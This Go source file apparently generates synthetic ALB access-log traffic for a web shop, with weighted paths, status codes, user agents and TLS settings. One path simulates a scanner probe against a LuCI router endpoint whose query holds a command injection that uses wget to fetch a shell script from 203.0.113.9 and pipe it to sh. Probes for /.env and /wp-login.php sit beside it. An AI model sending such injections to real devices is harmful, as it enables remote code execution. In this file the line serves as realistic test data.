package gen

import "math/rand/v2"

// Static vocabularies of the ALB traffic: paths, user agents and TLS
// settings. Order matters: random draws index into these slices.

type albPath struct {
	weight   int
	method   string // "" means GET mostly, with HEAD now and then
	prefix   string
	idMax    int // > 0 appends a numeric id after prefix
	suffix   string
	queries  []string
	rule     string // matched_rule_priority
	medianMs float64
	sigma    float64
	sizeMed  float64
	// statuses: cumulative per-mille thresholds of target answers.
	statuses []albStatus
	// fixed marks paths answered by a fixed-response rule (404).
	fixed bool
}

type albStatus struct {
	code     int
	permille int
}

var (
	stOK      = []albStatus{{200, 968}, {304, 980}, {404, 994}, {403, 997}, {400, 1000}}
	stStatic  = []albStatus{{200, 900}, {304, 985}, {404, 998}, {206, 1000}}
	stAPI     = []albStatus{{200, 955}, {404, 975}, {401, 985}, {400, 995}, {429, 1000}}
	stPost    = []albStatus{{201, 900}, {200, 950}, {400, 985}, {409, 995}, {422, 1000}}
	stLogin   = []albStatus{{302, 700}, {200, 950}, {401, 1000}}
	stDelete  = []albStatus{{204, 970}, {404, 1000}}
	stSearch  = []albStatus{{200, 990}, {400, 1000}}
	stCheckot = []albStatus{{200, 930}, {302, 980}, {400, 1000}}
)

var albPaths = []albPath{
	{weight: 120, prefix: "/", rule: "0", medianMs: 35, sigma: 0.6, sizeMed: 48000, statuses: stOK},
	{weight: 260, prefix: "/static/js/app.", idMax: 9999, suffix: ".js", rule: "20", medianMs: 3, sigma: 0.5, sizeMed: 180000, statuses: stStatic},
	{weight: 180, prefix: "/static/img/p", idMax: 40000, suffix: ".webp", queries: []string{"", "?w=320", "?w=640&q=80", "?w=1280&q=75&fm=webp"}, rule: "20", medianMs: 4, sigma: 0.6, sizeMed: 60000, statuses: stStatic},
	{weight: 200, prefix: "/api/v1/products/", idMax: 99999, queries: []string{"", "?currency=EUR", "?fields=id,name,price&locale=de-DE", "?include=reviews&page=2&limit=50"}, rule: "10", medianMs: 45, sigma: 0.7, sizeMed: 3500, statuses: stAPI},
	{weight: 90, prefix: "/api/v1/products", queries: []string{"?page=1&limit=24", "?category=shoes&sort=price_asc&page=3", "?q=winter+jacket&size=M&color=navy", "?brand=acme%20outdoor&page=12"}, rule: "10", medianMs: 80, sigma: 0.7, sizeMed: 24000, statuses: stAPI},
	{weight: 60, prefix: "/api/v1/search", queries: []string{"?q=running+shoes", "?q=gift%20ideas&lang=en", "?q=%E2%82%AC50+voucher&page=2", "?q=usb-c+cable&sort=relevance&utm_source=newsletter&utm_medium=email&utm_campaign=black_friday_2026"}, rule: "11", medianMs: 140, sigma: 0.8, sizeMed: 16000, statuses: stSearch},
	{weight: 55, method: "POST", prefix: "/api/v1/cart/items", rule: "10", medianMs: 60, sigma: 0.6, sizeMed: 900, statuses: stPost},
	{weight: 12, method: "DELETE", prefix: "/api/v1/cart/items/", idMax: 99999, rule: "10", medianMs: 40, sigma: 0.5, sizeMed: 200, statuses: stDelete},
	{weight: 8, method: "PUT", prefix: "/api/v1/account/addresses/", idMax: 9999, rule: "10", medianMs: 70, sigma: 0.5, sizeMed: 600, statuses: stPost},
	{weight: 25, method: "POST", prefix: "/checkout/payment", rule: "5", medianMs: 420, sigma: 0.6, sizeMed: 2200, statuses: stCheckot},
	{weight: 20, method: "POST", prefix: "/login", queries: []string{"", "?next=%2Faccount%2Forders"}, rule: "5", medianMs: 190, sigma: 0.4, sizeMed: 1200, statuses: stLogin},
	{weight: 30, prefix: "/account/orders", queries: []string{"", "?page=2"}, rule: "5", medianMs: 120, sigma: 0.6, sizeMed: 22000, statuses: stLogin},
	{weight: 15, method: "OPTIONS", prefix: "/api/v1/cart/items", rule: "10", medianMs: 2, sigma: 0.4, sizeMed: 400, statuses: []albStatus{{204, 1000}}},
	{weight: 10, prefix: "/robots.txt", rule: "0", medianMs: 2, sigma: 0.3, sizeMed: 300, statuses: []albStatus{{200, 1000}}},
	{weight: 6, prefix: "/wp-login.php", rule: "1", fixed: true},
	{weight: 4, prefix: "/.env", rule: "1", fixed: true},
	{weight: 2, prefix: "/cgi-bin/luci/;stok=/locale", queries: []string{"?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F203.0.113.9%2Fx.sh%7Csh%60)"}, rule: "1", fixed: true},
}

type albUA struct {
	weight int
	ua     string
}

var albUAs = []albUA{
	{300, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"},
	{200, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1"},
	{120, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36"},
	{90, "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36"},
	{70, "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0"},
	{50, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0"},
	{40, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/22F76 [FBAN/FBIOS;FBAV/512.0.0.41.109;FBBV/732018004;FBDV/iPhone16,2;FBMD/iPhone;FBSN/iOS;FBSV/18.5;FBSS/3;FBID/phone;FBLC/de_DE;FBOP/5;FBRV/734587120;IABMV/1]"},
	{30, "okhttp/4.12.0"},
	{25, "ShopApp/7.14.2 (com.example.shop; build:71402; iOS 18.6.0) Alamofire/5.10.2"},
	{20, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
	{15, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"},
	{15, "python-requests/2.32.5"},
	{10, "curl/8.11.1"},
	{8, "Go-http-client/2.0"},
	{6, "Mozilla/5.0 (Linux; Android 14; SM-A546B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/141.0.7390.122 Mobile Safari/537.36 Instagram 402.0.0.37.76 Android (34/14; 450dpi; 1080x2125; samsung; SM-A546B; a54x; s5e8835; de_DE; 812345678; IABMV/1)"},
	{5, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"},
	{4, "-"},
	{3, "Mozilla/5.0 (Windows NT 6.1; Win64; x64; Trident/7.0; rv:11.0) like Gecko"},
	{2, "Mozilla/5.0 zgrab/0.x"},
}

type albTLS struct {
	permille int // cumulative
	cipher   string
	protocol string
}

var albTLSs = []albTLS{
	{560, "TLS_AES_128_GCM_SHA256", "TLSv1.3"},
	{660, "TLS_AES_256_GCM_SHA384", "TLSv1.3"},
	{950, "ECDHE-RSA-AES128-GCM-SHA256", "TLSv1.2"},
	{990, "ECDHE-RSA-AES256-GCM-SHA384", "TLSv1.2"},
	{1000, "ECDHE-RSA-CHACHA20-POLY1305", "TLSv1.2"},
}

var (
	lambdaServiceReasons = []string{"LambdaServiceException", "LambdaConnectionError", "LambdaConnectionTimeout", "LambdaUnhandledException"}
	lambdaUserReasons    = []string{"LambdaInvalidResponse", "LambdaUnhandled", "LambdaThrottling", "LambdaResponseTooLarge"}
	authReasons          = []string{"AuthTokenEpRequestFailed", "AuthTokenEpRequestTimeout", "AuthUnhandledException", "AuthUserinfoEpRequestFailed"}
	wafReasons           = []string{"WAFConnectionError", "WAFConnectionTimeout", "WAFResponseReadTimeout", "WAFServiceError", "WAFUnhandledException"}
)

// IPv4 /16 prefixes of residential and mobile networks the clients come from.
var clientNets4 = [][2]byte{
	{81, 2}, {84, 150}, {86, 139}, {88, 65}, {91, 64}, {93, 104}, {94, 134}, {95, 91},
	{109, 40}, {146, 52}, {176, 31}, {178, 24}, {185, 220}, {188, 174}, {212, 227}, {217, 229},
	{62, 216}, {79, 192}, {37, 201}, {31, 18},
}

// IPv6 /32 prefixes of the same networks.
var clientNets6 = []string{"2a02:810d", "2a01:c23", "2003:e5", "2a00:20", "2a0a:a541", "2001:16b8"}

// webMix draws the requests of a web shop from albPaths and albUAs, by
// their weights: ALB and Classic traffic alike.
type webMix struct{ pathCum, uaCum []int }

func newWebMix() webMix {
	var m webMix
	sum := 0
	for _, p := range albPaths {
		sum += p.weight
		m.pathCum = append(m.pathCum, sum)
	}
	sum = 0
	for _, u := range albUAs {
		sum += u.weight
		m.uaCum = append(m.uaCum, sum)
	}
	return m
}

// draw draws a request: its user agent and path (indexes into albUAs and
// albPaths), the path's id and query, and the method.
func (m *webMix) draw(r *rand.Rand) (ua, path, id, query int, method string) {
	ua = pick(r, m.uaCum)
	path = pick(r, m.pathCum)
	p := &albPaths[path]
	if p.idMax > 0 {
		id = 1 + r.IntN(p.idMax)
	}
	if len(p.queries) > 0 {
		query = r.IntN(len(p.queries))
	}
	method = p.method
	if method == "" {
		method = "GET"
		if r.IntN(200) == 0 {
			method = "HEAD"
		}
	}
	return ua, path, id, query, method
}

// drawStatus draws the status of a normal answer on p: one of its
// statuses by their cumulative per-mille thresholds, else 200.
func (p *albPath) drawStatus(r *rand.Rand) int {
	x := r.IntN(1000)
	for _, s := range p.statuses {
		if x < s.permille {
			return s.code
		}
	}
	return 200
}

// pickPermille returns the index of the first of tls whose cumulative
// per-mille threshold is above a draw.
func pickPermille(r *rand.Rand, tls []albTLS) int {
	x := r.IntN(1000)
	for i, s := range tls {
		if x < s.permille {
			return i
		}
	}
	return len(tls) - 1
}
